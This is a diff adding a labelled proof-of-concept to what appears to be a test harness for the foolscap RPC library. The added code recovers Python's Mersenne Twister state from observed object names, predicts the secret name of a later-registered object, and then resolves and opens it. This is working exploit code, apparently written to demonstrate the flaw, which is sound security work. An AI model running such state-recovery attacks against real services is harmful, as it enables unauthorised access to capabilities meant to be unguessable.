@@ -550,3 +550,167 @@ def world_description(sysm):
             assert len(found) <= 1
             w[wid] = dict(kind="KObj", attrs=sorted(set(dir(o))), iface=(list(found[0]) if found else None))
     return w
+
+
+# ------------------------------------------------------------------ "unguessable": a peer-side prediction attack on the names
+def _untemper(y):
+    """inverse of the Mersenne Twister output tempering (MT19937, as in CPython's random module)"""
+    y ^= y >> 18
+    y ^= (y << 15) & 0xefc60000
+    t = y
+    for _ in range(5):
+        t = y ^ ((t << 7) & 0x9d2c5680)
+    y = t & 0xffffffff
+    t = y
+    for _ in range(3):
+        t = y ^ (t >> 11)
+    return t & 0xffffffff
+
+
+# how 20 name bytes may have been cut from consecutive 32-bit outputs: name bytes -> the 5 words in the order they were drawn,
+# and back.  (getrandbits(160) fills the least significant word first; randbytes(20) is its little-endian image; five
+# getrandbits(32) may have been concatenated most-significant-first in either byte order.)
+def _w_bits_be(b):
+    v = int.from_bytes(b, "big")
+    return [(v >> (32 * k)) & 0xffffffff for k in range(5)]
+
+
+def _w_bits_le(b):
+    v = int.from_bytes(b, "little")
+    return [(v >> (32 * k)) & 0xffffffff for k in range(5)]
+
+
+LAYOUTS = {
+    "getrandbits(160) big-endian": (_w_bits_be, lambda ws: sum(w << (32 * k) for k, w in enumerate(ws)).to_bytes(20, "big")),
+    "randbytes(20)": (_w_bits_le, lambda ws: sum(w << (32 * k) for k, w in enumerate(ws)).to_bytes(20, "little")),
+    "5 x getrandbits(32) big-endian words": (lambda b: [int.from_bytes(b[4 * k:4 * k + 4], "big") for k in range(5)],
+                                             lambda ws: b"".join(w.to_bytes(4, "big") for w in ws)),
+    "5 x getrandbits(32) little-endian words": (lambda b: [int.from_bytes(b[4 * k:4 * k + 4], "little") for k in range(5)],
+                                                lambda ws: b"".join(w.to_bytes(4, "little") for w in ws)),
+}
+
+
+def predict_next_name(names):
+    """what a peer can do with the names it was legitimately given: treat them as consecutive outputs of the stdlib
+    Mersenne Twister under each layout, recover the 624-word state from the first 624 words, validate it on the remaining
+    observed words and, if it validates, compute the name the generator will produce next.
+    -> (predicted name or None, layout, number of validated words)"""
+    import base64, random
+    raw = []
+    for n in names:
+        try:
+            b = base64.b32decode(n.upper() + "=" * (-len(n) % 8))
+        except Exception:
+            return None, "names are not base32", 0
+        if len(b) != 20:
+            return None, "names are not 160 bits", 0
+        raw.append(b)
+    best = (None, "no layout reproduces the observed names", 0)
+    for lname, (to_words, from_words) in LAYOUTS.items():
+        words = [w for b in raw for w in to_words(b)]
+        if len(words) < 624 + 5:
+            return None, "too few names observed", 0
+        g = random.Random()
+        g.setstate((3, tuple(_untemper(w) for w in words[:624]) + (624,), None))
+        rest = words[624:]
+        got = [g.getrandbits(32) for _ in rest]
+        if got == rest:
+            nxt = [g.getrandbits(32) for _ in range(5)]
+            name = base64.b32encode(from_words(nxt)).decode().lower().rstrip("=")
+            return name, lname, len(rest)
+    return best
+
+
+class Ticket(Referenceable):
+    def remote_ping(self):
+        return "pong"
+
+
+class Vault(Referenceable):
+    def __init__(self, log):
+        self.log = log
+
+    def remote_open(self):
+        self.log.append("opened")
+        return "the crown jewels"
+
+
+def swissnum_attack(n_names=126):
+    """One real Tub with its REAL name generator.  The peer (raw tokens) is legitimately sent n_names fresh Referenceables and
+    reads their names off the my-reference sequences; then the application registers a Vault and tells nobody; the peer
+    predicts the Vault's name and asks for it.  -> dict(predicted, layout, validated, vault_name, resolved, opened, names)"""
+    global _pem
+    E.reset_clock()
+    if _pem is None:
+        _pem = pems_sorted(1)[0][1]
+    net = Net()
+    tub = make_tub(net, "s", _pem)
+    b = broker.Broker(TubRef("peer-X"))
+    b.setTub(tub)
+    t = Sink()
+    t.b = b
+    b.transport = t
+    b.connectionMade()
+    rref = b.getTrackerForYourReference(1, None).getRef()
+    log = []
+    names = []
+    tickets = []
+    out = dict(predicted=None, layout=None, validated=0, resolved=False, opened=False, names=0)
+    with quiet():
+        try:
+            for i in range(n_names):
+                tk = Ticket()
+                tickets.append(tk)
+                rref.callRemote("take", tk).addErrback(lambda f: None)
+                E.turn()
+                for clid, url in myrefs_in(t.take()):
+                    if url:
+                        names.append(url.split("/", 3)[3])
+            out["names"] = len(names)
+            vault = Vault(log)
+            furl = tub.registerReference(vault)            # told to nobody
+            out["vault_name_prefix"] = furl.split("/", 3)[3][:4]
+            predicted, layout, validated = predict_next_name(names)
+            out.update(predicted=predicted, layout=layout, validated=validated)
+            guess = predicted
+            if guess is None and names:
+                # no state could be recovered: still send the peer's best effort (the last name seen, incremented) so that the
+                # evidence shows a failing lookup rather than no attempt
+                guess = names[-1][:-1] + ("a" if names[-1][-1] != "a" else "b")
+            out["guess"] = guess
+            cnt = [0]
+            before = set(b.myReferenceByCLID)
+            b.dataReceived(enc_call(cnt, 1, 0, list(b"getReferenceByName"), [["B", list(guess.encode())]]))
+            E.turn()
+            t.take()
+            new = set(b.myReferenceByCLID) - before
+            if new:
+                out["resolved"] = True
+                clid = sorted(new)[0]
+                b.dataReceived(enc_call(cnt, 2, clid, list(b"open"), []))
+                E.turn()
+                out["opened"] = bool(log)
+        finally:
+            try:
+                if not b.disconnected:
+                    b.transport.loseConnection()
+                tub.stopService()
+                E.turn()
+            except Exception:
+                pass
+    return out
+
+
+def swissnum_follows_stdlib_prng():
+    """white-box companion: does the Tub's name depend on the state of the process-wide `random` generator?  Two names drawn
+    from the same saved state are equal only if they are a function of that state."""
+    import random
+    from foolscap import pb
+    st = random.getstate()
+    try:
+        a = pb.generateSwissnumber(160)
+        random.setstate(st)
+        b_ = pb.generateSwissnumber(160)
+    finally:
+        random.setstate(st)
+    return a == b_, a
